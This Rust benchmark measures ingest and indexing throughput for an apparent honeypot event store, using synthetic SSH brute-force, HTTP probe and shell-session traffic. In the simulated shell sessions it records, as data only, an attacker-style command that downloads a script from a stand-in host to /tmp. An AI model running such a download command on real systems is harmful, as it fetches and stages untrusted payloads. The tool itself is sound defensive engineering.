//! Events per second from records to committed rows.
//!
//! `ingest_rate <database url> [events] [attackers] [batch] [indexer]`: mixed traffic (logins tried,
//! commands, requests, sessions with recordings) is made beforehand, then applied batch by batch;
//! with an indexer at work unless that is 0.

#![expect(clippy::print_stdout, clippy::unwrap_used, reason = "a measuring tool for developers")]

use std::collections::VecDeque;
use std::sync::Arc;
use std::time::{Duration, Instant};

use base_model::catalogue::{self, Captured, Command, Request};
use base_model::{
    Body, BootId, DeckyId, Event, EventId, Fact, Peer, Record, RecordingChunk, Secret, SensorId,
    SessionId, Sha256Digest, Timestamp, Transport,
};
use base_runtime::{Clock, Shutdown};
use events_bus::Bus;
use store_db::Db;
use store_db::index::BLOCK_ROWS;
use store_ingest::{Ingest, IngestOptions};
use tokio::task::JoinHandle;

#[tokio::main]
async fn main() {
    let mut args = std::env::args().skip(1);
    let url = args.next().unwrap_or_else(|| "ingest_rate.db".into());
    let mut number = |default: usize| args.next().map_or(default, |text| text.parse().unwrap());
    let (total, attackers, batch) = (number(200_000), number(500), number(5000));
    let indexing = number(1) != 0;
    let boot = BootId::from_entropy(base_runtime::entropy::bytes().unwrap());
    let records = Traffic::new(boot, attackers).take(total);
    let db = Db::open(&url.parse().unwrap()).await.unwrap();
    let folder = tempfile::tempdir().unwrap();
    let options = IngestOptions::new(folder.path().to_owned(), "ingest_rate".into());
    let ingest = Ingest::open(db.clone(), options, Clock::start(), Bus::new()).await.unwrap();
    let stop = Shutdown::default();
    let indexer = indexing.then(|| tokio::spawn(ingest.indexer().run(stop.clone())));
    let sensor = SensorId::from_entropy([7; 16]);
    let started = Instant::now();
    let mut slowest = Duration::ZERO;
    // Two batches under way, as a link sends them: one is digested while the other is stored.
    let ingest = Arc::new(ingest);
    let mut under_way: VecDeque<JoinHandle<Duration>> = VecDeque::new();
    for batch in records.chunks(batch) {
        let (ingest, batch) = (ingest.clone(), batch.to_vec());
        under_way.push_back(tokio::spawn(async move {
            let began = Instant::now();
            ingest.apply(sensor, boot, &batch).await.unwrap();
            began.elapsed()
        }));
        if under_way.len() == 2
            && let Some(first) = under_way.pop_front()
        {
            slowest = slowest.max(first.await.unwrap());
        }
    }
    for last in under_way {
        slowest = slowest.max(last.await.unwrap());
    }
    let ingest = Arc::into_inner(ingest).unwrap();
    let took = started.elapsed();
    let rate = ingest.counts().stored as f64 / took.as_secs_f64();
    println!(
        "{} records of {attackers} attackers in {took:.2?}: {rate:.0} per second",
        ingest.counts().stored
    );
    println!("slowest batch of {batch}: {slowest:.0?}; {:?}", ingest.counts());
    if let Some(indexer) = indexer {
        let newest = db.logs().newest_seq().await.unwrap();
        let behind = newest - db.log_index().position().await.unwrap();
        let caught_up = Instant::now();
        while db.log_index().position().await.unwrap() + BLOCK_ROWS <= newest {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        let caught_up = caught_up.elapsed();
        println!(
            "the index was {behind} of {newest} rows behind, {caught_up:.2?} later it was not"
        );
        stop.ask();
        indexer.await.unwrap();
    }
    ingest.close().await.unwrap();
}

struct Traffic {
    boot: BootId,
    seq: u64,
    now: Timestamp,
    state: u64,
    attackers: usize,
}

impl Traffic {
    fn new(boot: BootId, attackers: usize) -> Self {
        let now = Clock::start().now();
        Self { boot, seq: 0, now, state: 0x9e37_79b9_7f4a_7c15, attackers }
    }

    fn random(&mut self, below: usize) -> usize {
        // xorshift64: repeatable, and good enough to spread keys.
        self.state ^= self.state << 13;
        self.state ^= self.state >> 7;
        self.state ^= self.state << 17;
        usize::try_from(self.state >> 16).unwrap_or(0) % below
    }

    fn take(mut self, total: usize) -> Vec<Record> {
        let mut records = Vec::with_capacity(total + 16);
        while records.len() < total {
            let attacker = self.random(self.attackers);
            match self.random(10) {
                0..=3 => self.brute_force(attacker, &mut records),
                4..=6 => self.web(attacker, &mut records),
                _ => self.shell(attacker, &mut records),
            }
        }
        records
    }

    fn push(
        &mut self,
        attacker: usize,
        service: &'static str,
        sid: SessionId,
        fact: Fact,
        out: &mut Vec<Record>,
    ) {
        self.seq += 1;
        self.now = self.now + Duration::from_micros(37);
        let decky = attacker % 7 + self.random(3);
        let (kind, fields, blobs) = fact.into_parts();
        let entropy: [u8; 10] = std::array::from_fn(|_| u8::try_from(self.random(256)).unwrap());
        let event = Event {
            v: 1,
            id: EventId::at(self.now, entropy),
            boot: self.boot,
            seq: self.seq,
            at: self.now,
            sensor: None,
            decky: DeckyId::from_entropy([u8::try_from(decky).unwrap(); 16]),
            decky_name: format!("decky-{decky:02}"),
            topology: None,
            service: service.into(),
            kind: kind.name.into(),
            attacker: Some(Peer {
                ip: std::net::Ipv4Addr::from(0x0a00_0000 + u32::try_from(attacker).unwrap()).into(),
                port: 40_000,
            }),
            local: Some(Peer { ip: "127.0.0.2".parse().unwrap(), port: 22 }),
            conn: None,
            session: Some(sid),
            origin: None,
            synthetic: false,
            transport: Transport::Tcp,
            fields,
        };
        out.push(Record { seq: self.seq, blobs, body: Body::Event(Box::new(event)) });
    }

    fn session(&mut self) -> SessionId {
        SessionId::from_entropy(std::array::from_fn(|_| u8::try_from(self.random(256)).unwrap()))
    }

    fn brute_force(&mut self, attacker: usize, out: &mut Vec<Record>) {
        let sid = self.session();
        self.push(attacker, "ssh", sid, catalogue::connect(), out);
        self.push(
            attacker,
            "ssh",
            sid,
            catalogue::ssh_client_banner(b"SSH-2.0-libssh2_1.10.0"),
            out,
        );
        for _ in 0..4 {
            let password = format!("password{}", self.random(100_000));
            let secret = Secret::plaintext(password.into_bytes());
            let fact = catalogue::auth_attempt(b"root", &secret, "password", false);
            self.push(attacker, "ssh", sid, fact, out);
        }
        let fact = catalogue::disconnect(Duration::from_millis(900), 2000, 3000);
        self.push(attacker, "ssh", sid, fact, out);
    }

    fn web(&mut self, attacker: usize, out: &mut Vec<Record>) {
        let sid = self.session();
        let header = |name: &str, value: &str| (name.into(), value.into());
        let headers = [
            header("Host", "192.0.2.1"),
            header(
                "User-Agent",
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
            ),
            header("Accept", "*/*"),
            header("Accept-Encoding", "gzip, deflate"),
        ];
        for _ in 0..3 {
            let path = format!("/admin/{}", self.random(10_000));
            let fact = catalogue::http_request(&Request {
                method: b"GET",
                path: path.as_bytes(),
                query: None,
                version: 1,
                headers: &headers,
                body: b"",
                body_blob: None,
                status: 404,
                tls_ja4: None,
                credential: None,
            });
            self.push(attacker, "http", sid, fact, out);
        }
    }

    fn shell(&mut self, attacker: usize, out: &mut Vec<Record>) {
        let sid = self.session();
        self.push(attacker, "ssh", sid, catalogue::login_success(b"root", "password", 3), out);
        let mut offset = 0;
        for _ in 0..6 {
            let line = format!("wget http://198.51.100.{}/x.sh -O /tmp/x", self.random(250));
            let command = Command {
                line: line.as_bytes(),
                user: "root",
                uid: 0,
                pwd: b"/root",
                status: 0,
                exec: false,
            };
            self.push(attacker, "ssh", sid, catalogue::command(&command), out);
            self.seq += 1;
            let lines =
                format!("{{\"sid\":\"{sid}\",\"t\":1.000000,\"ch\":\"i\",\"d\":\"{line}\"}}\n");
            let length = lines.len() as u64;
            let chunk = RecordingChunk {
                session: sid,
                decky: DeckyId::from_entropy([1; 16]),
                decky_name: "decky-01".into(),
                service: "ssh".into(),
                started: self.now,
                offset,
                lines,
            };
            offset += length;
            out.push(Record { seq: self.seq, blobs: Vec::new(), body: Body::Recording(chunk) });
        }
        if self.random(10) == 0 {
            let sha256 = Sha256Digest::of(&self.random(1000).to_be_bytes());
            let file = Captured {
                sha256,
                size: 1000,
                path: b"/tmp/x",
                user: "root",
                uid: 0,
                writer: "wget",
                mtime: self.now,
            };
            let fact = catalogue::file_captured(self.now, &file);
            self.push(attacker, "ssh", sid, fact, out);
        }
        let fact = catalogue::session_recorded(Duration::from_secs(30), 4000, false);
        self.push(attacker, "ssh", sid, fact, out);
    }
}
